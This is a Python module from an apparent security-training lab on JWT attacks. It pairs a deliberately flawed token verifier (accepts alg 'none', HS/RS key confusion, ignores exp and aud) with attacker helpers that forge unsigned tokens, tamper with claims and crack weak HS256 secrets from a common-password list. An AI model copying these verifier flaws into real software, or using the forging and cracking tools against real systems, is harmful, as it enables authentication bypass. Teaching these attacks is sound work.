"""DELIBERATELY VULNERABLE - for the attack lab only; used by nothing else (lesson 04).

This module holds two things that have no place in a real service:

- ``vulnerable_verify``: a hand-written JWT "verifier" that makes the classic mistakes on
  purpose. PyJWT refuses every one of them, which is why it is written by hand here.
- the attacker's tools: forge an unsigned token, sign HS256 with any bytes as the secret
  (PyJWT refuses a PEM key as an HMAC secret), tamper with a payload while keeping the old
  signature, and crack a weak HS256 secret from a word list.

The hardened verifier is not here: it is PyJWT alone, written out in the lesson 04 notebook
where the learner reads it. Only ``labsupport/__init__.py`` (the re-export) and lesson 04's
exercise checks import this module; a test enforces that.
"""
from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import warnings
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from typing import Any

import jwt
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey

from .errors import LabError

SHOP_ISSUER = "https://login.shop.example"
"""Who mints the shop's tokens (RS256, with ``keys.rsa_private_key()``)."""
SHOP_AUDIENCE = "shop-api"
"""The service the attacks target; it verifies with the published RSA public key."""
OTHER_AUDIENCE = "reports-api"
"""Another service that trusts the same login service: its tokens are not for the shop."""

NONE_CASINGS: tuple[str, ...] = ("none", "None", "NONE", "nOnE")
"""Spellings of ``alg: none`` that careless verifiers accept (a case-insensitive compare)."""

COMMON_SECRETS: tuple[str, ...] = (
    "secret", "password", "changeme", "123456", "admin", "jwt", "jwt-secret", "jwtsecret",
    "secretkey", "secret-key", "supersecret", "s3cr3t", "shhhhh", "letmein", "qwerty",
    "default", "test", "key", "my-secret", "your-256-bit-secret",
)
"""A short word list of secrets people really use: 'shhhhh' is from a popular library's README,
'your-256-bit-secret' is the example secret jwt.io's debugger showed for years. Real lists hold
hundreds of thousands of entries."""


class Rejected(LabError):
    """The vulnerable verifier refused a token; ``reason`` says why."""

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


def b64url_encode(data: bytes) -> str:
    """Base64url without padding, as JWT segments are written."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    """The bytes of one JWT segment (padding restored)."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json_segment(obj: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(dict(obj), separators=(",", ":")).encode())


def _as_bytes(key: str | bytes) -> bytes:
    return key.encode() if isinstance(key, str) else bytes(key)


def _split(token: str) -> tuple[str, str, str, dict[str, Any], dict[str, Any], bytes]:
    """Header, payload and signature segments, the decoded header and claims, the raw signature."""
    try:
        header_b64, payload_b64, signature_b64 = token.split(".")
        header = json.loads(b64url_decode(header_b64))
        claims = json.loads(b64url_decode(payload_b64))
        signature = b64url_decode(signature_b64)
    except (AttributeError, ValueError, binascii.Error, UnicodeDecodeError) as e:
        raise Rejected(f"malformed token: {e}") from e
    if not isinstance(header, dict) or not isinstance(claims, dict):
        raise Rejected("malformed token: header and payload must be JSON objects")
    return header_b64, payload_b64, signature_b64, header, claims, signature


def vulnerable_verify(token: str, key: str | bytes) -> dict[str, Any]:
    """DELIBERATELY VULNERABLE - for the attack lab only; used by nothing else.

    Returns the token's claims if it "verifies", else raises ``Rejected``. ``key`` is whatever
    the service was configured with: an HMAC secret, or an RSA public key as PEM. Its mistakes:

    1. it lets the token's header choose the algorithm (``alg``);
    2. ``alg: none`` in any casing means "nothing to check";
    3. for ``HS256`` it uses whatever key it holds as the HMAC secret, so a public key's PEM
       text becomes a secret everybody knows (HS/RS confusion);
    4. it never looks at ``exp``: a token is valid forever;
    5. it never looks at ``aud`` (nor ``iss``): a token for another service is welcome here.

    What it does do right: when it does check a signature, it checks it properly, over the
    exact header and payload segments, with a constant-time compare.
    """
    header_b64, payload_b64, _, header, claims, signature = _split(token)
    signing_input = f"{header_b64}.{payload_b64}".encode()
    alg = header.get("alg")  # mistake 1: the token decides how it is checked
    if isinstance(alg, str) and alg.lower() == "none":  # mistake 2: an unsigned token is taken at its word
        return claims
    if alg == "HS256":  # mistake 3: any key becomes an HMAC secret, even a public one
        expected = hmac.new(_as_bytes(key), signing_input, hashlib.sha256).digest()
        if not hmac.compare_digest(expected, signature):
            raise Rejected("HS256 signature does not match")
        return claims
    if alg == "RS256":
        try:
            public_key = serialization.load_pem_public_key(_as_bytes(key))
        except ValueError as e:
            raise Rejected("RS256 token, but the configured key is not an RSA public key") from e
        if not isinstance(public_key, RSAPublicKey):
            raise Rejected("RS256 token, but the configured key is not an RSA public key")
        try:
            public_key.verify(signature, signing_input, padding.PKCS1v15(), hashes.SHA256())
        except InvalidSignature as e:
            raise Rejected("RS256 signature does not match") from e
        return claims
    # mistakes 4 and 5 are what is missing above: no line looks at exp, aud or iss.
    raise Rejected(f"unsupported alg {alg!r}")


def forge_unsigned(claims: Mapping[str, Any], *, alg: str = "none") -> str:
    """An unsigned token: header ``{"alg": alg, "typ": "JWT"}``, the claims, an empty signature."""
    return f"{_json_segment({'alg': alg, 'typ': 'JWT'})}.{_json_segment(claims)}."


def sign_hs256(claims: Mapping[str, Any], secret: str | bytes) -> str:
    """An HS256 token signed by hand with ``secret``: any bytes, even a public key's PEM text.

    PyJWT refuses a PEM key as an HMAC secret (``InvalidKeyError``); an attacker is not bound
    by that.
    """
    signing_input = f"{_json_segment({'alg': 'HS256', 'typ': 'JWT'})}.{_json_segment(claims)}"
    signature = hmac.new(_as_bytes(secret), signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64url_encode(signature)}"


def tamper(token: str, **changes: Any) -> str:
    """``token`` with some claims changed, keeping its header and its old signature."""
    header_b64, _, signature_b64, _, claims, _ = _split(token)
    return f"{header_b64}.{_json_segment({**claims, **changes})}.{signature_b64}"


@dataclass(frozen=True)
class CrackResult:
    """What a dictionary attack on an HS256 token found: the secret (or ``None``) and the guesses made."""

    secret: str | None
    tried: int

    @property
    def found(self) -> bool:
        """True when a word of the list signs the token."""
        return self.secret is not None


def crack_hs256(token: str, words: Iterable[str] = COMMON_SECRETS) -> CrackResult:
    """Try each word as the HMAC secret of an HS256 token; stop at the first that signs it.

    Offline: the attacker needs one token and no contact with the server, so no rate limit
    or lockout can slow the guessing down.
    """
    header_b64, payload_b64, _, header, _, signature = _split(token)
    if header.get("alg") != "HS256":
        raise Rejected(f"not an HS256 token (alg {header.get('alg')!r})")
    signing_input = f"{header_b64}.{payload_b64}".encode()
    tried = 0
    for word in words:
        tried += 1
        guess = hmac.new(word.encode(), signing_input, hashlib.sha256).digest()
        if hmac.compare_digest(guess, signature):
            return CrackResult(word, tried)
    return CrackResult(None, tried)


def side_by_side(attack: str, token: str, *, vulnerable_key: str | bytes,
                 hardened: Callable[[str], Any],
                 vulnerable: Callable[[str], Any] | None = None) -> dict[str, str]:
    """Run one attack token through ``vulnerable_verify`` and through ``hardened`` (PyJWT).

    ``hardened`` is the notebook's own PyJWT call, e.g. ``lambda t: jwt.decode(t, ...)``.
    ``vulnerable`` replaces ``vulnerable_verify`` with another careless reader, e.g. PyJWT with
    ``verify_signature`` off; it accepts unless it raises.
    Returns a plain record: attack, vulnerable verdict and reason, hardened verdict, and
    ``reason``: the PyJWT exception class and message (or the warnings PyJWT gave when it
    accepted). Warnings are caught and reported, never printed.
    """
    try:
        if vulnerable is None:
            vulnerable_verify(token, vulnerable_key)
        else:
            vulnerable(token)
        verdict_v, vulnerable_reason = "accepted", ""
    except Rejected as e:
        verdict_v, vulnerable_reason = "rejected", e.reason
    except jwt.PyJWTError as e:
        verdict_v, vulnerable_reason = "rejected", f"{type(e).__name__}: {e}"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            hardened(token)
            verdict, reason = "accepted", ""
        except jwt.PyJWTError as e:
            verdict, reason = "rejected", f"{type(e).__name__}: {e}"
    warned = sorted({w.category.__name__ for w in caught})
    if warned:
        reason = "; ".join([*([reason] if reason else []), f"PyJWT warned: {', '.join(warned)}"])
    return {"attack": attack, "vulnerable": verdict_v, "vulnerable reason": vulnerable_reason,
            "hardened": verdict, "reason": reason}


__all__ = [
    "COMMON_SECRETS", "NONE_CASINGS", "OTHER_AUDIENCE", "SHOP_AUDIENCE", "SHOP_ISSUER",
    "CrackResult", "Rejected", "b64url_decode", "b64url_encode", "crack_hs256", "forge_unsigned",
    "side_by_side", "sign_hs256", "tamper", "vulnerable_verify",
]
